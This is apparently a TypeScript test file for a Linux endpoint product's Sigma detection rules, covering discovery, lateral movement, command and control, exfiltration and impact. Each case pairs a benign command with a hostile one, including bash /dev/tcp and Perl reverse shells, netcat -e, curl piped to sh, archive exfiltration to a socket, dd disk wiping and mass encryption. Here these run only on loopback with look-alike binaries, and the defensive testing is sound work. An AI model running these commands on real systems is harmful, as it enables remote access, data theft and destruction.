// Mamori's own Linux Sigma rules, part B (rules/sigma/linux: discovery, lateral movement, command and
// control, exfiltration, impact): each rule raises its alert when the real behaviour runs as child processes
// of this test, seen by the real process sensor and Sigma engine, and stays quiet on the nearest benign action.
// Everything runs inside a temp folder under /tmp; network traffic goes only to listeners of this test on
// 127.0.0.1. Tools that are not installed, or whose real use would change the machine (reboot, systemctl
// stop, usermod, ...), are harmless look-alikes: /bin/true (or a shell) copied under the tool's name, so the
// kernel sees the same program name and arguments and nothing happens.
import { copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TelemetryEvent } from '../../preload/contract/index.js';
import { loadRules, readRuleFolders, SigmaEngine } from '../../main/core/detect/sigma/index.js';
import { behaviourSkipReason, startBehaviourCore, type BehaviourCore } from '../helpers/behaviour.js';

const RULES = join(process.cwd(), 'rules', 'sigma', 'linux');
const skip = behaviourSkipReason();
if (skip) console.warn(`[sigma pack b] behaviour tests skipped: ${skip}`);

/** Quiet period for negatives (the alert path takes well under a second here). */
const QUIET_MS = 2000;

interface Ctx {
  dir: string;
  bin: string;
  sbin: string;
  /** HTTP on loopback: /x (an executable), /i.sh (a harmless script); PUT/POST are accepted and dropped. */
  http: number;
  /** Plays the attacker's end of a reverse shell: says "exit" so the shell ends at once. */
  catcher: number;
  /** Reads and drops whatever is sent (exfiltration sink). */
  sink: number;
  /** Closes every connection at once (ssh/scp fail fast without logging in anywhere). */
  refuse: number;
  /** A mining-pool port on loopback. */
  pool: number;
}

/** rule -> [benign look-alike, real behaviour]; each a command for `sh -c` in the temp folder. */
type Case = { rule: string; benign: string; attack: string; attackTimeoutMs?: number };

const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

function cases(c: Ctx): Case[] {
  const { dir, bin, sbin } = c;
  const url = `http://127.0.0.1:${c.http}`;
  const sshOpts = `-o BatchMode=yes -o ConnectTimeout=2`;
  return [
    // ---- download, chmod +x and run from /tmp (temporal_ordered correlation)
    {
      rule: 'mamori.lnx.download-chmod-exec-temp',
      benign: `curl -so ${dir}/dl-ok ${url}/x && chmod 644 ${dir}/dl-ok && cat ${dir}/dl-ok > /dev/null; true`,
      attack: `curl -so ${dir}/dl-x ${url}/x && chmod +x ${dir}/dl-x && ${dir}/dl-x; true`,
    },
    // ---- reverse shells (T1059.004)
    {
      rule: 'mamori.lnx.reverse-shell-dev-tcp',
      benign: `bash -i -c 'echo interactive' < /dev/null >& ${dir}/interactive.log; true`,
      attack: `timeout 10 bash -c 'bash -i >& /dev/tcp/127.0.0.1/${c.catcher} 0>&1' 2>/dev/null; true`,
    },
    {
      rule: 'mamori.lnx.shell-outbound-connection',
      benign: `curl -s ${url}/i.sh > /dev/null; true`,
      attack: `timeout 10 bash -c 'exec 3<>/dev/tcp/127.0.0.1/${c.sink}; echo hello >&3; sleep 0.3' 2>/dev/null; true`,
    },
    {
      rule: 'mamori.lnx.reverse-shell-netcat-exec',
      benign: `${bin}/nc -z 127.0.0.1 ${c.catcher}; true`,
      attack: `${bin}/nc -e /bin/sh 127.0.0.1 ${c.catcher}; ${bin}/ncat --exec /bin/bash 127.0.0.1 ${c.catcher}; ${bin}/socat tcp:127.0.0.1:${c.catcher} exec:/bin/sh,pty,stderr; true`,
    },
    {
      rule: 'mamori.lnx.reverse-shell-script-oneliner',
      benign: `perl -MIO::Socket::INET -e ${q(`$s = IO::Socket::INET->new("127.0.0.1:${c.sink}") or die; print $s "status ok\\n"; close $s;`)}; true`,
      attack: `timeout 10 perl -e ${q(`use Socket;$i="127.0.0.1";$p=${c.catcher};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`)} 2>/dev/null; true`,
    },
    {
      rule: 'mamori.lnx.reverse-shell-fifo-relay',
      benign: `rm -f ${dir}/q; mkfifo ${dir}/q && (echo hi > ${dir}/q &) && cat ${dir}/q > /dev/null; true`,
      attack: `rm -f ${dir}/f; mkfifo ${dir}/f; timeout 10 sh -c 'cat ${dir}/f | /bin/sh -i 2>&1 | ${bin}/nc 127.0.0.1 ${c.catcher} > ${dir}/f'; true`,
    },
    // ---- servers that start a shell (T1505.003, T1190)
    {
      rule: 'mamori.lnx.webserver-spawns-shell',
      benign: `${sbin}/php-fpm8.2 -c '/bin/sh -c "/usr/sbin/sendmail -t -i" 2>/dev/null; true'; true`,
      attack: `${sbin}/nginx -c 'sh -c "id > /dev/null"; true'; true`,
    },
    {
      rule: 'mamori.lnx.database-spawns-shell',
      benign: `bash -c 'exec -a "postgres: archiver" ${sbin}/postgres -c "sh -c \\"cp ${dir}/wal-1 ${dir}/archive-1\\" 2>/dev/null; true"'; true`,
      attack: `${sbin}/mysqld -c 'sh -c "id > /dev/null"; true'; true`,
    },
    {
      rule: 'mamori.lnx.java-appserver-spawns-shell',
      benign: `${dir}/jdk/bin/java -c 'sh -c "id > /dev/null"; true' -jar app.jar; true`,
      attack: `${dir}/jdk/bin/java -c 'sh -c "id > /dev/null"; true' org.apache.catalina.startup.Bootstrap start; true`,
    },
    // ---- coin miners (T1496)
    {
      rule: 'mamori.lnx.coinminer-command-line',
      benign: `echo 'stratum: a layer of rock' > ${dir}/notes.txt; grep -c stratum ${dir}/notes.txt > /dev/null; true`,
      attack: `${bin}/xmrig -o stratum+tcp://127.0.0.1:${c.pool} -u wallet --donate-level 1; true`,
    },
    {
      rule: 'mamori.lnx.coinminer-pool-port-connection',
      benign: `${bin}/kworkerds -c 'exec 3<>/dev/tcp/127.0.0.1/${c.sink}; sleep 0.3'; true`,
      attack: `${bin}/kworkerds -c 'exec 3<>/dev/tcp/127.0.0.1/${c.pool}; sleep 0.3'; true`,
    },
    // ---- discovery
    {
      rule: 'mamori.lnx.discovery-burst',
      benign: `uname -a > /dev/null; id > /dev/null; true`,
      attack: 'uname -a; id; whoami; ip a; netstat -tn; ss -tn; ps aux; cat /etc/passwd; true'.replace(/;/g, ' > /dev/null 2>&1;'),
    },
    {
      rule: 'mamori.lnx.network-scanner',
      benign: `${bin}/nmap --version; true`,
      attack: `bash -c 'for p in ${c.refuse} ${c.sink}; do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done'; ${bin}/nmap -sT -p 1-1024 127.0.0.1; true`,
    },
    {
      rule: 'mamori.lnx.remote-system-discovery',
      benign: `ip route show > /dev/null; true`,
      attack: `arp -a > /dev/null 2>&1; true`,
    },
    // ---- lateral movement
    {
      rule: 'mamori.lnx.ssh-unattended-login',
      benign: `ssh ${sshOpts} -p ${c.refuse} nobody@127.0.0.1 true 2>/dev/null; true`,
      attack: `ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null ${sshOpts} -p ${c.refuse} nobody@127.0.0.1 true 2>/dev/null; true`,
    },
    {
      rule: 'mamori.lnx.remote-copy-from-temp',
      benign: `scp ${sshOpts} -P ${c.refuse} nobody@127.0.0.1:/srv/report.txt ${dir}/ 2>/dev/null; true`,
      attack: `printf '#!/bin/sh\\n' > ${dir}/tool && scp ${sshOpts} -P ${c.refuse} ${dir}/tool nobody@127.0.0.1:/var/tmp/tool 2>/dev/null; true`,
    },
    // ---- command and control
    {
      rule: 'mamori.lnx.ssh-tunnel-forwarding',
      benign: `ssh -N -L 15432:localhost:5432 ${sshOpts} -p ${c.refuse} nobody@127.0.0.1 2>/dev/null; true`,
      attack: `ssh -N -R 8080:localhost:80 ${sshOpts} -p ${c.refuse} nobody@127.0.0.1 2>/dev/null; true`,
    },
    {
      rule: 'mamori.lnx.tunnel-tool',
      benign: `${bin}/cloudflared version; true`,
      attack: `${bin}/chisel client 127.0.0.1:${c.catcher} R:socks; true`,
    },
    {
      rule: 'mamori.lnx.socat-port-relay',
      benign: `${bin}/socat - UNIX-CONNECT:${dir}/app.sock; true`,
      attack: `${bin}/socat TCP-LISTEN:18443,bind=127.0.0.1,fork,reuseaddr TCP:127.0.0.1:${c.sink}; true`,
    },
    {
      rule: 'mamori.lnx.dns-tunnel-tool',
      benign: `getent hosts localhost > /dev/null; true`,
      attack: `${bin}/iodine -f -P secret 127.0.0.1 t.example.com; true`,
    },
    {
      rule: 'mamori.lnx.proxy-anonymiser',
      benign: `curl --noproxy '*' -s ${url}/i.sh > /dev/null; true`,
      attack: `${bin}/proxychains4 -q curl -s ${url}/i.sh; true`,
    },
    {
      rule: 'mamori.lnx.pipe-download-to-shell',
      benign: `curl -s ${url}/i.sh | head -c 10 > /dev/null; true`,
      attack: `curl -s ${url}/i.sh | sh; true`,
    },
    {
      rule: 'mamori.lnx.download-hidden-temp-file',
      benign: `curl -so ${dir}/report.pdf ${url}/x; true`,
      attack: `curl -so ${dir}/.cache-x ${url}/x; true`,
    },
    // ---- exfiltration
    {
      rule: 'mamori.lnx.curl-file-upload',
      benign: `curl -s -o ${dir}/downloaded ${url}/x; true`,
      attack: `echo 'customer list' > ${dir}/secrets.txt && curl -s -T ${dir}/secrets.txt ${url}/up > /dev/null; true`,
    },
    {
      rule: 'mamori.lnx.archive-piped-to-network',
      benign: `tar -cf - -C ${dir} docs | gzip > ${dir}/docs.tgz; true`,
      attack: `timeout 10 bash -c 'tar -cf - -C ${dir} docs > /dev/tcp/127.0.0.1/${c.sink}' 2>/dev/null; true`,
    },
    {
      rule: 'mamori.lnx.archive-copied-to-remote',
      benign: `scp ${sshOpts} -P ${c.refuse} nobody@127.0.0.1:/srv/db.tar.gz ${dir}/ 2>/dev/null; true`,
      attack: `tar -czf ${dir}/db.tar.gz -C ${dir} docs && scp ${sshOpts} -P ${c.refuse} ${dir}/db.tar.gz nobody@127.0.0.1:/srv/ 2>/dev/null; true`,
    },
    {
      rule: 'mamori.lnx.password-protected-archive',
      benign: `zip -q -r ${dir}/plain.zip ${dir}/docs; true`,
      attack: `zip -q -P s3cret ${dir}/locked.zip ${dir}/docs/a.txt; true`,
    },
    // ---- impact
    {
      rule: 'mamori.lnx.shred-many-files',
      benign: `mkdir -p ${dir}/shred-one && echo x > ${dir}/shred-one/a && shred -u ${dir}/shred-one/a; true`,
      attack: `mkdir -p ${dir}/shred && for i in 1 2 3 4 5; do echo data > ${dir}/shred/f$i; done; shred -u -n 1 ${dir}/shred/f1 ${dir}/shred/f2 ${dir}/shred/f3 ${dir}/shred/f4 ${dir}/shred/f5; true`,
    },
    {
      // bs=0 makes dd refuse its arguments before it opens anything: nothing is written to any device.
      rule: 'mamori.lnx.disk-wipe',
      benign: `dd if=/dev/zero of=${dir}/disk.img bs=1k count=1 2>/dev/null; true`,
      attack: `dd if=/dev/zero of=/dev/sdzz bs=0 2>/dev/null; true`,
    },
    {
      rule: 'mamori.lnx.mass-file-encryption',
      benign: `mkdir -p ${dir}/enc-few && for i in 1 2; do echo doc > ${dir}/enc-few/$i.txt; openssl enc -aes-256-cbc -pbkdf2 -k pw -in ${dir}/enc-few/$i.txt -out ${dir}/enc-few/$i.txt.enc; done; true`,
      attack: `mkdir -p ${dir}/enc && for i in 1 2 3 4 5 6 7 8 9 10 11 12; do echo doc > ${dir}/enc/$i.txt; openssl enc -aes-256-cbc -pbkdf2 -k pw -in ${dir}/enc/$i.txt -out ${dir}/enc/$i.txt.enc; done; true`,
      attackTimeoutMs: 8000,
    },
    {
      rule: 'mamori.lnx.backup-snapshot-deletion',
      benign: `mkdir -p ${dir}/build-cache/obj && rm -rf ${dir}/build-cache; true`,
      attack: `mkdir -p ${dir}/var/backups/daily && echo db > ${dir}/var/backups/daily/db.sql && rm -rf ${dir}/var/backups; true`,
    },
    {
      // The look-alike reboot is /bin/true; the benign case is the same request from an ordinary program.
      rule: 'mamori.lnx.shutdown-from-unusual-parent',
      benign: `exec ${bin}/reboot`,
      attack: `printf '#!/bin/sh\\n${bin}/reboot\\ntrue\\n' > ${dir}/dropper.sh && sh ${dir}/dropper.sh; true`,
    },
    {
      rule: 'mamori.lnx.database-service-stop',
      benign: `${bin}/systemctl status mysql.service; true`,
      attack: `${bin}/systemctl stop mysql.service; true`,
    },
    {
      rule: 'mamori.lnx.account-lockout',
      benign: `${bin}/usermod -aG docker alice; true`,
      attack: `${bin}/usermod -L alice; true`,
    },
  ];
}

/** The alerting rules of part B (base rules of correlations only feed them). */
const RULE_NAMES = [
  'mamori.lnx.download-chmod-exec-temp', 'mamori.lnx.reverse-shell-dev-tcp', 'mamori.lnx.shell-outbound-connection',
  'mamori.lnx.reverse-shell-netcat-exec', 'mamori.lnx.reverse-shell-script-oneliner', 'mamori.lnx.reverse-shell-fifo-relay',
  'mamori.lnx.webserver-spawns-shell', 'mamori.lnx.database-spawns-shell', 'mamori.lnx.java-appserver-spawns-shell',
  'mamori.lnx.coinminer-command-line', 'mamori.lnx.coinminer-pool-port-connection', 'mamori.lnx.discovery-burst',
  'mamori.lnx.network-scanner', 'mamori.lnx.remote-system-discovery', 'mamori.lnx.ssh-unattended-login',
  'mamori.lnx.remote-copy-from-temp', 'mamori.lnx.ssh-tunnel-forwarding', 'mamori.lnx.tunnel-tool', 'mamori.lnx.socat-port-relay',
  'mamori.lnx.dns-tunnel-tool', 'mamori.lnx.proxy-anonymiser', 'mamori.lnx.pipe-download-to-shell', 'mamori.lnx.download-hidden-temp-file',
  'mamori.lnx.curl-file-upload', 'mamori.lnx.archive-piped-to-network', 'mamori.lnx.archive-copied-to-remote',
  'mamori.lnx.password-protected-archive', 'mamori.lnx.shred-many-files', 'mamori.lnx.disk-wipe', 'mamori.lnx.mass-file-encryption',
  'mamori.lnx.backup-snapshot-deletion', 'mamori.lnx.shutdown-from-unusual-parent', 'mamori.lnx.database-service-stop',
  'mamori.lnx.account-lockout',
] as const;

const LOOK_ALIKES_TRUE = ['nc', 'ncat', 'socat', 'nmap', 'chisel', 'cloudflared', 'iodine', 'proxychains4', 'xmrig', 'reboot', 'systemctl', 'usermod'];

function listen(onConn: (s: Socket) => void, port = 0): Promise<Server> {
  return new Promise((resolve, reject) => {
    const srv = createServer(onConn);
    srv.once('error', reject);
    srv.listen(port, '127.0.0.1', () => resolve(srv));
  });
}
const portOf = (s: Server | HttpServer) => (s.address() as { port: number }).port;

describe.skipIf(!!skip)('Mamori Sigma rules part B, real behaviour', () => {
  let b: BehaviourCore;
  let ctx: Ctx;
  const servers: (Server | HttpServer)[] = [];
  const sockets = new Set<Socket>();
  const track = (s: Socket) => { sockets.add(s); s.on('error', () => {}); s.on('close', () => sockets.delete(s)); };
  const list: Case[] = [];
  const caseOf = (rule: string) => list.find((c) => c.rule === rule) ?? expect.unreachable(`no case for ${rule}`);

  beforeAll(async () => {
    b = await startBehaviourCore();
    const dir = b.dir;
    const bin = join(dir, 'bin');
    const sbin = join(dir, 'sbin');
    for (const d of [bin, sbin, join(dir, 'jdk', 'bin'), join(dir, 'docs')]) mkdirSync(d, { recursive: true });
    for (const n of LOOK_ALIKES_TRUE) copyFileSync('/bin/true', join(bin, n));
    for (const n of ['nginx', 'php-fpm8.2', 'mysqld', 'postgres']) copyFileSync('/bin/sh', join(sbin, n));
    copyFileSync('/bin/sh', join(dir, 'jdk', 'bin', 'java'));
    copyFileSync('/bin/bash', join(bin, 'kworkerds'));
    writeFileSync(join(dir, 'docs', 'a.txt'), 'quarterly figures\n');
    writeFileSync(join(dir, 'wal-1'), 'wal\n');

    const payload = readFileSync('/bin/true');
    const http = createHttpServer((req, res) => {
      req.resume();
      req.on('end', () => {
        if (req.url === '/x') res.end(payload);
        else if (req.url === '/i.sh') res.end('true\n');
        else res.end('ok\n');
      });
    });
    http.on('connection', track);
    await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
    const catcher = await listen((s) => { track(s); s.write('exit\n'); setTimeout(() => s.destroy(), 3000).unref(); });
    const sink = await listen((s) => { track(s); s.resume(); setTimeout(() => s.destroy(), 3000).unref(); });
    const refuse = await listen((s) => s.destroy());
    let pool: Server | null = null;
    for (const p of [14444, 3333, 5555, 7777]) {
      pool = await listen((s) => { track(s); s.resume(); setTimeout(() => s.destroy(), 3000).unref(); }, p).catch(() => null);
      if (pool) break;
    }
    if (!pool) throw new Error('no mining-pool port (14444, 3333, 5555, 7777) is free on 127.0.0.1');
    servers.push(http, catcher, sink, refuse, pool);
    ctx = { dir, bin, sbin, http: portOf(http), catcher: portOf(catcher), sink: portOf(sink), refuse: portOf(refuse), pool: portOf(pool) };
    list.push(...cases(ctx));
  }, 60_000);

  afterAll(async () => {
    for (const s of sockets) s.destroy();
    await Promise.all(servers.map((s) => new Promise((r) => s.close(r))));
    await b?.stop();
  });

  it('each rule of part B loads and raises alerts of its own', () => {
    const { rules, correlations } = loadRules(readRuleFolders([RULES]).sources);
    const alerting = [...rules.filter((r) => r.generate), ...correlations].map((r) => r.name);
    expect(list.map((c) => c.rule).sort()).toEqual([...RULE_NAMES].sort());
    for (const c of list) expect(alerting).toContain(c.rule);
  });

  // Benign look-alikes first (an alert of a rule from any earlier step would fail its case), then the real
  // behaviours. Within each group the actions run side by side, each under its own parent process.
  describe('benign look-alikes stay quiet', () => {
    beforeAll(async () => {
      await Promise.all(list.map((c) => b.run(c.benign)));
      await new Promise((r) => setTimeout(r, QUIET_MS));
    }, 30_000);
    for (const rule of RULE_NAMES) it(rule, () => b.noAlerts(rule, 0));
  });

  describe('real behaviours raise the alert', () => {
    beforeAll(async () => {
      await Promise.all(list.map((c) => b.run(c.attack)));
    }, 30_000);
    for (const rule of RULE_NAMES) {
      it(rule, async () => {
        const c = caseOf(rule);
        const alerts = await b.alerts(rule, c.attackTimeoutMs ?? 6000);
        expect(alerts.length, `no alert of ${rule} for: ${c.attack}`).toBeGreaterThan(0);
        expect(alerts[0]!.detection.engine).toBe('sigma');
        if (rule === 'mamori.lnx.disk-wipe') expect(existsSync('/dev/sdzz')).toBe(false);
      }, 10_000);
    }
  });
});

// The file sensor of the behaviour core is chokidar, which reports no renames and no process, so the
// ransomware-rename correlation is checked on the real engine with the events the fanotify sensor produces.
describe('Mamori Sigma rules part B, ransomware renames (engine)', () => {
  const { rules, correlations } = loadRules(readRuleFolders([RULES]).sources);
  let n = 0;
  const rename = (parent: string, from: string, to: string): TelemetryEvent => ({
    id: ++n, '@timestamp': new Date(Date.now() + n * 10).toISOString(),
    event: { kind: 'file', action: 'rename', sequence: null },
    process: {
      entity_id: `mv-${n}`, pid: 1000 + n, name: 'mv', executable: '/usr/bin/mv', command_line: `mv ${from} ${to}`, args: ['mv', from, to],
      parent: { entity_id: parent, pid: 999, executable: '/usr/bin/bash', command_line: 'bash ./run.sh' },
    },
    user: { id: 1000, name: 'office' },
    file: { path: to, name: to.split('/').pop()!, old_path: from },
  });
  const names = (engine: SigmaEngine, parent: string, ext: string) =>
    Array.from({ length: 6 }, (_, i) => engine.evaluate(rename(parent, `/home/office/doc${i}.xlsx`, `/home/office/doc${i}.xlsx${ext}`)))
      .flat().map((f) => f.rule.name);

  it('five renames to .locked under one parent raise the alert', () => {
    expect(names(new SigmaEngine(rules, correlations), 'p-1', '.locked')).toContain('mamori.lnx.ransom-extension-rename');
  });

  it('renames to .bak do not', () => {
    expect(names(new SigmaEngine(rules, correlations), 'p-2', '.bak')).not.toContain('mamori.lnx.ransom-extension-rename');
  });
});
